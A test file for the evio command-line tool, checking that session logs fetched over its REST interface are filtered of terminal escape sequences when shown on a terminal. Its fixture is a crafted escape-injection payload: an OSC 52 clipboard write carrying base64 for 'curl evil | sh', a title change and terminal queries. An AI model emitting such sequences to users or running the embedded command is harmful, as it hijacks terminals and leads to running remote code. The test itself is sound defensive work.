// `evio call` and `evio rest` writing a raw answer — GET /REST/iologfile, a session file as
// recorded — to a terminal: the bytes pass the terminal filter there (no OSC 52, title or query
// of the recorded user reaches the terminal), and stay as they are in a pipe or with --raw.
// Run in a real pseudo-terminal (util-linux `script`) and in a pipe, against a real server on
// 127.0.0.1 for `evio rest`.
import { spawn } from 'node:child_process';
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { RunningServer } from '../../src/http/server.js';
import { KEYS, makeHome, serve, type TestHome } from '../http/server/helpers.js';

const BIN = new URL('../../bin/evio.js', import.meta.url).pathname;
const E = '\x1b';
const TTYOUT = `$ ${E}]52;c;Y3VybCBldmlsIHwgc2g=\x07ok ${E}]2;pwned${E}\\${E}[c${E}[6n${E}[1mbold${E}[0m\r\n`;
const SHOWN = `$ ok ${E}[1mbold${E}[0m\r\n`;

let home: TestHome;
let server: RunningServer;

function quote(s: string): string {
  return `'${s.replace(/'/g, `'\\''`)}'`;
}

/** Runs evio with `args`: in a pseudo-terminal (stdout a terminal) or with stdout a pipe. */
function evio(args: string[], tty: boolean): Promise<{ code: number | null; out: string }> {
  const env = { PATH: process.env.PATH ?? '', EVIO_HOME: home.dir };
  const line = [process.execPath, BIN, ...args].map(quote).join(' ');
  const child = tty
    ? spawn('script', ['-qfec', `stty -opost; ${line}`, '/dev/null'], { env, stdio: ['pipe', 'pipe', 'pipe'] })
    : spawn(process.execPath, [BIN, ...args], { env, stdio: ['ignore', 'pipe', 'pipe'] });
  return new Promise((resolve, reject) => {
    const out: Buffer[] = [];
    child.stdout!.on('data', (c: Buffer) => out.push(c));
    child.on('error', reject);
    child.on('close', (code) => resolve({ code, out: Buffer.concat(out).toString('utf8') }));
  });
}

beforeAll(async () => {
  home = makeHome();
  const dir = join(home.dir, 'iolog', 'crafted');
  mkdirSync(dir, { recursive: true });
  writeFileSync(join(dir, 'ttyout'), TTYOUT);
  server = await serve(home);
});
afterAll(async () => {
  await server?.close();
  await home?.cleanup();
});

describe('raw answers written to a terminal', () => {
  const path = '/REST/iologfile?file=crafted/ttyout';

  it('evio call: filtered on a terminal; as recorded in a pipe and with --raw', async () => {
    expect(await evio(['call', 'GET', path], true)).toEqual({ code: 0, out: SHOWN });
    expect(await evio(['call', 'GET', path, '--raw'], true)).toEqual({ code: 0, out: TTYOUT });
    expect(await evio(['call', 'GET', path], false)).toEqual({ code: 0, out: TTYOUT });
  });

  it('evio rest: filtered on a terminal; as recorded in a pipe and with --raw', async () => {
    const rest = ['rest', '--url', server.url, '--appid', 'admin', '--key', KEYS.admin, 'GET', path];
    expect(await evio(rest, true)).toEqual({ code: 0, out: SHOWN });
    expect(await evio([...rest, '--raw'], true)).toEqual({ code: 0, out: TTYOUT });
    expect(await evio(rest, false)).toEqual({ code: 0, out: TTYOUT });
  });
});
